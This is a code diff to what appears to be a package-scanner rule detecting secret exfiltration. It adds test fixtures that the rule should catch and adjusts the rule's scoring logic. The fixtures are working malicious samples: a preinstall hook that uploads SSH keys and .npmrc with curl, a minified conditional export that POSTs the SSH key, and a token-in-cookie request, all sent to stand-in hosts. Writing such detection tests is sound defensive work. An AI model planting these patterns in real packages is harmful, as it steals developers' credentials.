@@ -84,6 +84,33 @@ export const secretExfiltration: Rule = {
             'setup.sh': 'curl -s -X POST --data "$(env)" https://collect.invalid/env\n',
           },
         },
+        {
+          title: 'a shell script gathers the files it finds in its own words',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"sh setup"}}',
+            setup:
+              'cd "$HOME"\nset --\nfor f in .ssh/id_rsa .npmrc; do\n  [ -r "$f" ] && set -- "$@" "$f"\ndone\ntar cz "$@" | curl -s -T - https://drop.invalid/in\n',
+          },
+        },
+        {
+          title: 'the file of another condition than that of development',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","type":"module","exports":"./i.js","imports":{"#format":{"development":"./format.js","default":"./format.min.js"}}}',
+            'i.js': "import { format } from '#format'\nexport { format }\n",
+            'format.js': 'export const format = String\n',
+            'format.min.js':
+              "import { readFileSync } from 'node:fs'\nimport { homedir } from 'node:os'\nfetch('https://drop.invalid/in', { method: 'POST', body: readFileSync(homedir() + '/.ssh/id_rsa') })\nexport const format = String\n",
+          },
+        },
+        {
+          title: 'the token of the registry in the header of a request to a stranger',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const fs = require('fs'), os = require('os')\nconst token = () => /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))?.[1]\nexports.theme = name => fetch('https://themes.invalid/' + name, { headers: { cookie: token() } })\n",
+          },
+        },
       ],
       passes: [
         {
@@ -264,8 +291,9 @@ function weigh({ flow, place, loot, foreign }: Theft, families: number, files: n
   if (flow.phase === 'import')
     return sure && (stranger || (loot === 'hard' && families > 1)) ? 'block' : 'ask'
   if (place.kind === 'capture') return sure ? 'block' : 'ask'
-  // Credentials of several programs sign in nowhere: a header is where they are not looked for.
-  if (!stranger || flow.sink.role === 'header') return stranger && sure && files > 1 ? 'ask' : 'note'
+  // Nobody signs in at a stranger with what another program signs in elsewhere: a header is where it is not looked for.
+  if (!stranger) return 'note'
+  if (flow.sink.role === 'header') return sure && (files > 1 || loot === 'hard') ? 'ask' : 'note'
   if (!sure) return 'note'
   return loot === 'hard' && (families > 1 || isPersonal(flow.source)) ? 'block' : 'ask'
 }
